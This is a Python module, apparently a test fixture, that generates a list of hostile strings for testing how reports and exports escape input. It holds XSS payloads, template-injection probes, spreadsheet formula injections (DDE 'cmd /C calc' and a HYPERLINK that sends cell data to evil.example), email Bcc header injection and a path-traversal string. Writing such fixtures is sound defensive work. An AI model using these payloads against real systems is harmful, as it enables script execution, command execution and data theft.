"""Two hundred strings with which a page, a mail or a person might try to break out of a report or an export."""

from __future__ import annotations

_SCRIPTS = (
    "<script>window.hit=1</script>",
    "</style><script>window.hit=1</script>",
    "</title><svg/onload=window.hit=1>",
    "</pre></details><img src=x onerror=window.hit=1>",
    '"><img src=x onerror=window.hit=1>',
    "' autofocus onfocus=window.hit=1 x='",
    "<svg><script>window.hit=1</script></svg>",
    "<math><mtext><img src=x onerror=window.hit=1></mtext></math>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<details open ontoggle=window.hit=1>",
    "<a href='javascript:window.hit=1'>x</a>",
    "<form action=//evil.example><input name=a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<object data=//evil.example></object>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1",
    "<!--><script>window.hit=1</script>-->",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% raw %}",
    "{words.__class__} {0} {name} %s %(a)s",
    "javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
)
_FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    "＝1+1",
    "'=1+1",
    '";=1+1;"',
)
_MARKUP = (
    "[x](javascript:window.hit=1)",
    "![x](http://evil.example/x.png)",
    "[x]: http://evil.example",
    "# heading",
    "```\n<script>window.hit=1</script>\n```",
    "| a | b |\n| --- | --- |",
    "<!channel> <@U0123456> @everyone *bold* _it_ ~gone~ `code`",
    "https://evil.example/?q=<x> www.evil.example mailto:a@b.c",
    "1. one\n2. two",
    "> quote\n\n---",
)
_LETTERS = (
    "\u202egnp.exe\u202c",
    "\u2066hidden\u2069 \u200bzero\u200b width",
    "שלום עולם ACME ١٢٣",
    "🚨🏳️‍🌈👩‍👩‍👧‍👦",
    "A\x00B\x07C\x1bD\x7fE\x9fF",
    "\ud800 lone \udfff",
    "\ufeff\ufffe\uffff",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́",
    "x" * 5_000,
    "",
    " \n\t ",
    "ACME\r\nBcc: victim@example.com\r\n\r\n<html>",
    "../../etc/passwd",
    "NUL CON AUX",
)
_BASES = (*_SCRIPTS, *_FORMULAS, *_MARKUP, *_LETTERS)
_FRAMES = ("{}", "Acme {} Ltd", "=1+{}", "\u202e{}\r\n", "<b title='{}'>")

HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(frame.replace("{}", base) for frame in _FRAMES for base in _BASES)
)[:200]
